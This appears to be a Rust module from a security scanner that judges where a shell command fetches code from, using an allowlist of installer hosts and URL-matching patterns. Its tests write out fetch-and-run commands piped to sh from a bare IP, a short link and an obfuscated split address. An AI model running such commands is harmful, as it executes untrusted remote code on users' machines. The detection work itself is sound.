//! Where a command takes code from, as far as its text says.

use crate::artifact::service::{Service, is_below};
use crate::text::Pattern;

/// The owner of an address that code comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Origin {
    /// This machine.
    Local,
    /// A project whose documented way of installation this is.
    Known,
    /// The command names no address: a variable, an argument.
    Open,
    Unknown,
    /// An address without an owner: a bare IP, a tunnel, a paste, a short link.
    Anonymous,
}

/// Hosts whose own documentation says to pipe them to a shell. A host covers its subdomains.
const INSTALLERS: &[&str] = &[
    "aka.ms",
    "amp.rs",
    "astral.sh",
    "aws.amazon.com",
    "awscli.amazonaws.com",
    "bootstrap.pypa.io",
    "brew.sh",
    "bun.com",
    "bun.sh",
    "chatgpt.com",
    "claude.ai",
    "cli.github.com",
    "community.chocolatey.org",
    "cursor.com",
    "dagger.io",
    "deb.nodesource.com",
    "deno.land",
    "dl.deno.land",
    "dl.google.com",
    "dl.k8s.io",
    "dot.net",
    "dotnet.microsoft.com",
    "fly.io",
    "foundry.paradigm.xyz",
    "get-ghcup.haskell.org",
    "get.docker.com",
    "get.helm.sh",
    "get.k3s.io",
    "get.pnpm.io",
    "get.pulumi.com",
    "get.rvm.io",
    "get.scoop.sh",
    "get.sdkman.io",
    "get.volta.sh",
    "getcomposer.org",
    "install.determinate.systems",
    "install.duckdb.org",
    "install.meteor.com",
    "install.python-poetry.org",
    "mise.jdx.dev",
    "mise.run",
    "nixos.org",
    "ollama.ai",
    "ollama.com",
    "opencode.ai",
    "pixi.sh",
    "pkgs.tailscale.com",
    "proton.me",
    "pyenv.run",
    "railway.com",
    "releases.hashicorp.com",
    "rpm.nodesource.com",
    "rustwasm.github.io",
    "sdk.cloud.google.com",
    "sentry.io",
    "setup.atuin.sh",
    "sh.rustup.rs",
    "starship.rs",
    "static.rust-lang.org",
    "tailscale.com",
    "wasmtime.dev",
    "x.ai",
];

/// Owners and repositories on GitHub of which the same holds.
const REPOSITORIES: &[&str] = &[
    "ajeetdsouza/zoxide/",
    "anchore/",
    "anthropics/",
    "antonmedv/fx/",
    "aquasecurity/",
    "argoproj/",
    "astral-sh/",
    "aws/",
    "block/goose/",
    "cargo-bins/cargo-binstall/",
    "cli/cli/",
    "conda-forge/miniforge/",
    "creationix/nvm/",
    "databricks/",
    "denoland/",
    "docker/",
    "getsops/",
    "golangci/golangci-lint/",
    "google-gemini/",
    "google/",
    "hashicorp/",
    "helm/helm/",
    "homebrew/",
    "infracost/infracost/",
    "junegunn/",
    "k3d-io/k3d/",
    "kubernetes-sigs/",
    "kubernetes/",
    "microsoft/",
    "nektos/act/",
    "nvm-sh/nvm/",
    "ohmyzsh/ohmyzsh/",
    "openai/",
    "pyenv/pyenv-installer/",
    "rbenv/rbenv-installer/",
    "starship/starship/",
    "terraform-linters/tflint/",
    "tfutils/tfenv/",
    "trufflesecurity/trufflehog/",
];

static ADDRESS: Pattern = Pattern::new(
    r#"(?i)\b(?P<scheme>https?|ftp)://(?:[^\s/@"'`]{1,80}@)?(?P<host>\[[0-9a-f:]+\]|[^\s/:"'`|)<>\\?#]+)(?::\d+)?(?P<path>/[^\s"'`|)<>]*)?"#,
);

static BARE: Pattern = Pattern::new(
    r#"(?i)(?:curl|wget|irm|iwr|invoke-restmethod|invoke-webrequest)\s(?:[^|\n]*\s)?["']?(?P<host>(?:[a-z0-9-]+\.)+[a-z]{2,10})(?P<path>/[^\s"'`|)]*)?["']?\s*(?:$|[|)])"#,
);

static PIECES: Pattern = Pattern::new(r#"["']\s*\+\s*["'][^"']*["']\s*\+\s*["']"#);

impl Origin {
    /// The origin that a command names; the worst where it names several.
    pub(super) fn of(command: &str) -> Self {
        let mut worst = None;
        let parts = ["host", "path"];
        for (_, [host, path]) in ADDRESS.groups_iter(command, parts).chain(BARE.groups_iter(command, parts)) {
            let text = |range: Option<std::ops::Range<usize>>| command.get(range.unwrap_or(0..0)).unwrap_or_default();
            worst = worst.max(Some(Self::of_host(&text(host).to_ascii_lowercase(), text(path))));
        }
        // An address in pieces, `"https://" + "a" + ".b"`, has an owner who does not want to be found.
        let hidden = || PIECES.is_match(command);
        worst.unwrap_or_else(|| if hidden() { Self::Anonymous } else { Self::Open })
    }

    fn of_host(host: &str, path: &str) -> Self {
        if matches!(host, "localhost" | "0.0.0.0" | "[::1]" | "host.docker.internal") || host.starts_with("127.") {
            return Self::Local;
        }
        if host.starts_with(['$', '{', '<']) {
            return Self::Open;
        }
        let number = !host.is_empty() && host.chars().all(|c| c.is_ascii_digit() || c == '.');
        if number
            || host.starts_with('[')
            || host.starts_with("0x")
            || host.rsplit_once('.').is_some_and(|(_, last)| last == "onion")
            || Service::of(host).is_some()
        {
            return Self::Anonymous;
        }
        let repository = path.trim_start_matches('/').to_ascii_lowercase();
        let hosted = matches!(host, "raw.githubusercontent.com" | "github.com" | "raw.github.com");
        if is_below(host, INSTALLERS) || (hosted && REPOSITORIES.iter().any(|known| repository.starts_with(known))) {
            return Self::Known;
        }
        Self::Unknown
    }
}

/// Variables in a command.
static VARIABLE: Pattern = Pattern::new(r"\$?\{(?P<braced>\w{1,40})\}|\$(?P<bare>\w{1,40})");
/// A name that is given an address.
static NAMED: Pattern =
    Pattern::new(r#"\b(?P<name>\w{1,40})(?:\s?:\s?\w{1,20})?\s?=\s?["'`]?(?P<address>https?://[^\s"'`;]{4,200})"#);

/// The addresses that the variables of a command have in the same text.
pub(super) fn named_addresses<'t>(text: &'t str, command: &str) -> Vec<&'t str> {
    let variables = VARIABLE.groups_iter(command, ["braced", "bare"]);
    let names: Vec<&str> = variables.filter_map(|(_, [braced, bare])| command.get(braced.or(bare)?)).take(8).collect();
    if names.is_empty() {
        return Vec::new();
    }
    let named = NAMED.groups_iter(text, ["name", "address"]);
    let addresses = named.filter_map(|(_, [name, address])| Some((text.get(name?)?, text.get(address?)?)));
    addresses.filter(|(name, _)| names.contains(name)).map(|(_, address)| address).take(8).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_have_owners() {
        for (command, expected) in [
            ("curl -LsSf https://astral.sh/uv/install.sh | sh", Origin::Known),
            ("curl -fsSL get.docker.com | sh", Origin::Known),
            ("curl https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh", Origin::Known),
            ("curl https://raw.githubusercontent.com/someone/x/main/i.sh", Origin::Unknown),
            ("curl https://astral.sh.example.net/i.sh | sh", Origin::Unknown),
            ("curl https://astral.sh@203.0.113.9/i.sh | sh", Origin::Anonymous),
            ("curl -s http://203.0.113.9:8080/i | sh", Origin::Anonymous),
            ("wget -qO- https://bit.ly/abc | sh", Origin::Anonymous),
            ("curl -s http://localhost:3000/x | sh", Origin::Local),
            ("curl -s \"$URL\" | sh", Origin::Open),
            ("irm https://get.scoop.sh | iex", Origin::Known),
            (r#"curl -s https://" + "a" + ".example" + "/p | sh"#, Origin::Anonymous),
        ] {
            assert_eq!(Origin::of(command), expected, "{command}");
        }
    }
}
